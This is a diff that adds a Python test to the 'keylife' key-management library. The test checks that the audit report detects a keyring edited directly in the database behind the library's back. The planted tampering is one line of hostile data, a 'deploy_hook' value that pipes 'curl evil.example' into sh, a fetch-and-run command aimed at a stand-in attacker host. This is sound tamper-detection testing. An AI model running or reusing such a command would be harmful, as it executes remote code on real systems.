@@ -130,3 +130,32 @@ def test_build_report_is_pure() -> None:
         audit=audit,
     )
     jsonschema.validate(report_to_dict(empty), json_schema())
+
+
+def test_report_shows_the_log_against_the_rings_and_the_last_checkpoint(tmp_path) -> None:
+    import sqlite3
+
+    import keylife
+    from keylife.checkpoint import make_checkpoint
+    from keylife.report import collect_report, render_html
+
+    db, key = str(tmp_path / "k.db"), tmp_path / "mk"
+    with keylife.init(db, master_key_file=key) as m:
+        m.create_ring("web", "aes-256", "data-encryption")
+        make_checkpoint(m)
+    with sqlite3.connect(db) as con:
+        (doc,) = con.execute("SELECT doc FROM rings WHERE name='web'").fetchone()
+        edited = json.loads(doc)
+        edited["attributes"] = {"deploy_hook": "curl evil.example | sh"}
+        con.execute("UPDATE rings SET doc=? WHERE name='web'", (json.dumps(edited),))
+    with keylife.open(db, master_key_file=key) as m:
+        report = collect_report(m)
+    (finding,) = report.state
+    assert finding.ring == "web" and report.counts()["state_findings"] == 1
+    assert report.last_checkpoint is not None
+    assert report.last_checkpoint.ring == "keylife-audit-checkpoint"
+    document = report_to_dict(report)
+    jsonschema.validate(document, json_schema())
+    assert document["audit"]["state"][0]["ring"] == "web"
+    assert "is not what record" in render_html(report)
+    assert "Last checkpoint" in render_markdown(report)
